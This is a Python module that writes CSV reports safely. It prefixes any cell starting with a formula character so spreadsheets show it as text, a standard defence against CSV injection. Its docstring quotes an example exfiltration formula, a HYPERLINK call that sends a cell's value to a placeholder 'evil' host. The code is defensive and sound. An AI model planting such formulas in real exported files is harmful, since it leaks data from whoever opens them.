"""CSV written for people who open it in a spreadsheet.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a CR is a formula to
Excel and LibreOffice ("CSV injection"): a message text like
`=HYPERLINK("http://evil/?"&A1)` would run when an operator opens a report.
As OWASP recommends, such cells get a leading `'`, which the spreadsheet
shows as text. E.164 numbers start with `+` and are prefixed too
(`'+59898344484`): as text they keep their `+` and all their digits,
which is what a phone number should be in a spreadsheet anyway.
Numbers the report itself writes (ids, counts, costs) are left alone.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value`, with a `'` in front if it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """csv.writer whose text cells cannot start a formula."""

    def __init__(self, stream: Any, **fmt: Any) -> None:
        self._out = csv.writer(stream, **fmt)

    def writerow(self, row: Iterable[Any]) -> None:
        self._out.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
